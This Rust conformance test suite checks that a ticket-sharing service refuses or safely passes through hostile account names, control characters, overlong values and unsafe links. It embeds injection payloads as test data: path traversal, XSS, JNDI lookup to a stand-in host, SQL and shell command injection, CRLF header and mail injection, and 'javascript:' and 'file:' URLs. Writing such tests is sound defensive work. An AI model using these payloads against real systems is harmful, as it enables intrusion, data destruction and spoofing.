//! Names of accounts that are somebody else's, and names that are meant for a shell, a browser, a
//! mail or a terminal.

use contracts::ItemOutcome;
use contracts::Reason::{AccountExists, BadLink, InvalidName, Malformed, NameTaken, NotAnAdmin};
use contracts::topology::Service;
use serde_json::{Value, json};

use super::ground::{Row, row};
use crate::context::{ConformanceContext, admin, agent, applied, everything, item, refused, with};

fn registration(row: &Row, account: &str, changes: &Value) -> Value {
    let all = json!({ "account": account, "display_name": row.marker, "kind": "connected",
        "admins": [] });
    with(all, changes)
}

/// What the attacker may say of accounts below it.
fn below(row: &Row, account: &str) -> Value {
    registration(row, account, &json!({ "operated_by": row.ground.acme.account }))
}

fn reserved() -> impl Iterator<Item = String> {
    let names = ["operator", "desk", "guest"].map(str::to_owned);
    names.into_iter().chain(Service::ALL.map(|service| service.name().to_owned()))
}

pub async fn hostile_accounts_named_like_the_system(context: ConformanceContext) {
    let row = row(context).await;
    for name in reserved().chain(Service::ALL.map(Service::user)).chain(["amq.topic".to_owned()]) {
        for by in [&row.ground.acme.account, &row.ground.globex.account] {
            let registration = registration(&row, &name, &json!({ "operated_by": by }));
            refused(&row.ask("account.register.v1", &registration).await, InvalidName);
        }
        refused(
            &row.context
                .operator()
                .ask("account.register.v1", &registration(&row, &name, &json!({})))
                .await,
            InvalidName,
        );
    }
    row.ends_unseen().await;
}

pub async fn hostile_names_that_are_no_accounts(context: ConformanceContext) {
    let row = row(context).await;
    let acme = row.ground.acme.account.to_string();
    let long = format!("{acme}-{}", "x".repeat(40));
    for name in [
        "",
        ".",
        "..",
        "*",
        "#",
        "-",
        "a",
        "A",
        "Ünicode",
        "а-cyrillic",
        "a b",
        "a\tb",
        "../etc",
        "a/b",
        "a.b",
        "<b>",
        &long,
    ] {
        refused(&row.ask("account.register.v1", &below(&row, name)).await, InvalidName);
        if !name.is_empty() {
            let name = format!("{acme}-{name}");
            let receipt = row.ask("account.register.v1", &below(&row, &name)).await;
            if receipt.reason.is_some() {
                refused(&receipt, InvalidName);
            } else {
                assert!(["-", "a"].iter().any(|it| name.ends_with(it)));
            }
        }
    }
    row.ends_unseen().await;
}

pub async fn hostile_registering_for_others(context: ConformanceContext) {
    let row = row(context).await;
    let (acme, globex) = (&row.ground.acme.account, &row.ground.globex.account);
    for (name, by) in [
        (format!("{globex}-x"), Some(globex.as_str())),
        (format!("{globex}-x"), Some(acme.as_str())),
        (format!("{globex}-x"), None),
        (format!("{acme}evil"), Some(acme.as_str())),
        (format!("{acme}-mine"), None),
        (format!("{acme}-mine"), Some("operator")),
        ("free-name".to_owned(), None),
    ] {
        let registration = registration(&row, &name, &json!({ "operated_by": by }));
        refused(&row.ask("account.register.v1", &registration).await, InvalidName);
    }
    row.ends_unseen().await;
}

pub async fn hostile_taking_a_name_that_is_there(context: ConformanceContext) {
    let row = row(context).await;
    let (acme, globex) = (&row.ground.acme.account, &row.ground.globex);
    let beside = row.context.desk(&format!("{acme}-eu")).await;
    refused(
        &row.ask("account.register.v1", &below(&row, beside.account.as_str())).await,
        AccountExists,
    );
    let bridge = row.context.desk("bridge").await;
    let name = bridge.account.as_str();
    let flag = registration(&row, name, &json!({ "may_operate": true }));
    applied(&row.context.operator().ask("account.register.v1", &flag).await);
    let url = json!({ "operated_by": name, "sharing_url": crate::context::sharing_url(globex) });
    let at_url = registration(&row, &format!("{name}-url"), &url);
    refused(&bridge.ask("account.register.v1", &at_url).await, Malformed);
    let third = json!({ "operated_by": name, "third_parties": true });
    let third = registration(&row, &format!("{name}-third"), &third);
    refused(&bridge.ask("account.register.v1", &third).await, Malformed);
    let address = json!({ "operated_by": name, "address": acme });
    let at_address = registration(&row, &format!("{name}-address"), &address);
    refused(&bridge.ask("account.register.v1", &at_address).await, NameTaken);
    row.ends_unseen().await;
}

pub async fn hostile_an_account_below_ones_own(context: ConformanceContext) {
    let row = row(context).await;
    let name = format!("{}-x", row.ground.acme.account);
    let registration = below(&row, &name);
    refused(&row.ask("account.register.v1", &registration).await, InvalidName);
    let flagged = with(registration, &json!({ "may_operate": true }));
    refused(&row.ask("account.register.v1", &flagged).await, Malformed);
    // The broker lets it publish for none either.
    let rogue = row.rogue().await;
    let properties = rogue.properties("agreement.list.v1", &row.ground.acme.next_id());
    let refusal =
        rogue.publish("share", &format!("{name}.agreement.list"), properties, b"{}").await;
    assert_eq!(refusal, Some(super::rogue::ACCESS_REFUSED));
    row.ends_unseen().await;
}

pub async fn hostile_renaming_to_what_is_anothers(context: ConformanceContext) {
    let row = row(context).await;
    let rename = |address: &str| json!({ "address": address, "actor": admin() });
    for address in [row.ground.globex.account.as_str(), row.ground.initech.account.as_str()] {
        refused(&row.ask("account.rename.v1", &rename(address)).await, NameTaken);
    }
    for address in
        reserved().chain(["", ".", "A", "a b", "../x", "<b>", "x\u{202e}y"].map(str::to_owned))
    {
        refused(&row.ask("account.rename.v1", &rename(&address)).await, InvalidName);
    }
    let by_agent = json!({ "address": "free", "actor": agent() });
    refused(&row.ask("account.rename.v1", &by_agent).await, NotAnAdmin);
    row.ends_unseen().await;
}

pub async fn hostile_control_characters_in_names(context: ConformanceContext) {
    let row = row(context).await;
    for control in
        ["\r\nBcc: all@initech.example", "\u{1b}[2J", "\u{7}", "\u{85}", "\u{9b}31m", "\n"]
    {
        let name = format!("{}{control}", row.marker);
        let person = json!({ "id": "1", "name": name, "role": "admin" });
        let field = |title: &str, key: &str| {
            json!({
                "ticket_fields": [{ "key": key, "title": title, "type": "text" }],
            })
        };
        let settings = [
            json!({ "display_name": name }),
            json!({ "admins": [{ "name": name, "email": "a@acme.example" }] }),
            json!({ "admins": [{ "name": "A", "email": format!("a@acme.example{control}") }] }),
            json!({ "support_addresses": [format!("a@acme.example{control}")] }),
            json!({ "link_template": format!("https://acme.example/{{ticket_id}}{control}") }),
            json!({ "locale": format!("en{control}") }),
            json!({ "default_form": [name] }),
            field(&name, "key"),
            field("title", &name),
        ];
        for setting in settings {
            refused(&row.context.set(&row.ground.acme, setting).await, Malformed);
        }
        let invite = json!({
            "agreement_id": row.context.id(), "receiver": { "address": row.ground.initech.account },
            "name": name, "terms": everything(), "actor": admin(),
        });
        refused(&row.ask("agreement.invite.v1", &invite).await, Malformed);
        refused(
            &row.ask(
                "agreement.invite.v1",
                &with(invite, &json!({ "name": "Fine", "actor": person })),
            )
            .await,
            Malformed,
        );
        refused(
            &row.ask("ticket.update.v1", &row.update(&json!({ "ticket_id": name }))).await,
            Malformed,
        );
    }
    row.ends_unseen().await;
}

pub async fn hostile_names_without_end(context: ConformanceContext) {
    let row = row(context).await;
    let name = row.marker.repeat(1_000);
    for setting in [
        json!({ "display_name": name }),
        json!({ "ticket_fields": [{ "key": "k", "title": name, "type": "text" }] }),
        json!({ "ticket_fields": [{ "key": name, "title": "T", "type": "text" }] }),
        json!({
            "ticket_fields": [{ "key": "k", "title": "T", "type": "regexp", "pattern": name }],
        }),
        json!({
            "ticket_fields": [{
                "key": "k",
                "title": "T",
                "type": "tagger",
                "options": [{ "name": name, "tag": "t" }],
            }],
        }),
        json!({
            "custom_statuses": {
                "enabled": true,
                "statuses": [{ "key": name, "name": "N", "category": "open" }],
            },
        }),
        json!({ "link_template": format!("https://acme.example/{{ticket_id}}/{name}") }),
        json!({ "admins": [{ "name": name, "email": "a@acme.example" }] }),
    ] {
        refused(&row.context.set(&row.ground.acme, setting).await, Malformed);
    }
    refused(
        &row.ask("account.rename.v1", &json!({ "address": name, "actor": admin() })).await,
        InvalidName,
    );
    refused(
        &row.ask("ticket.update.v1", &row.update(&json!({ "ticket_id": name }))).await,
        Malformed,
    );
    row.ends_unseen().await;
}

/// For a shell, a browser, a template, a database, a terminal and a reader from right to left.
const SCRIPTS: [&str; 7] = [
    "../../etc/passwd",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }} ${jndi:ldap://x.example/a} {% for %}",
    "'; drop table field; --",
    "\u{1b}[2J\u{7}\u{9b}31m",
    "\u{202e}txt.exe\u{200b}\u{feff}",
    "$(reboot) `reboot` | reboot",
];

pub async fn hostile_scripts_and_paths_in_content(context: ConformanceContext) {
    let row = row(context).await;
    let partners = row.context.partners(everything()).await;
    let (acme, globex) = (&partners.acme, &partners.globex);
    for script in SCRIPTS {
        let file = json!({ "id": script, "filename": script,
            "url": format!("https://acme.example/{}", row.marker) });
        let comment = json!({ "id": format!("{}/{}", acme.account, row.context.number()),
            "body": script, "html_body": script, "attachments": [file] });
        let changes = json!({
            "id": format!("t{}", row.context.number()), "subject": script,
            "requester": { "id": script, "name": script, "role": "end_user" },
            "tags": [{ "name": script, "added_by": "user" }], "comments": [comment],
        });
        let (receipt, share) = row.context.share(acme, &partners.agreement, changes).await;
        applied(&receipt);
        // It is text on its whole way: the partner gets it letter by letter.
        let created = row.context.created(globex, &share).await;
        assert_eq!(
            (created.subject.as_str(), &created.tags[..]),
            (script, &[script.to_owned()][..])
        );
        assert_eq!(
            (
                created.comments[0].body.as_str(),
                created.comments[0].attachments[0].filename.as_str()
            ),
            (script, script)
        );
    }
    row.ends_unseen().await;
}

pub async fn hostile_links_that_are_not_https(context: ConformanceContext) {
    let row = row(context).await;
    let partners = row.context.partners(everything()).await;
    let share =
        row.context.shared(&partners.acme, &partners.globex, &partners.agreement, "1").await;
    for url in [
        "javascript:alert(1)",
        "http://acme.example/",
        "file:///etc/passwd",
        "//acme.example",
        "data:text/html,x",
        " https://x",
        "https://ada:secret@acme.example/",
        "https://acme.example/\r\nX-Evil:1",
        "https://",
        "",
    ] {
        let file = json!({ "id": "a", "filename": row.marker, "url": url });
        let comment = with(
            row.context.comment(&partners.acme, "A file.", true),
            &json!({ "attachments": [file] }),
        );
        let receipt =
            row.context.update(&partners.acme, "1", json!({ "comments": [comment] })).await;
        item(&receipt, "attachment:a", ItemOutcome::Withheld, BadLink);
        refused(
            &row.context
                .set(&row.ground.acme, json!({ "link_template": format!("{url}{{ticket_id}}") }))
                .await,
            Malformed,
        );
    }
    row.context.heard(&partners.globex, &partners.acme, &share).await;
    assert!(partners.globex.bodies().iter().all(|body| !body.contains(&row.marker)));
    row.ends_unseen().await;
}
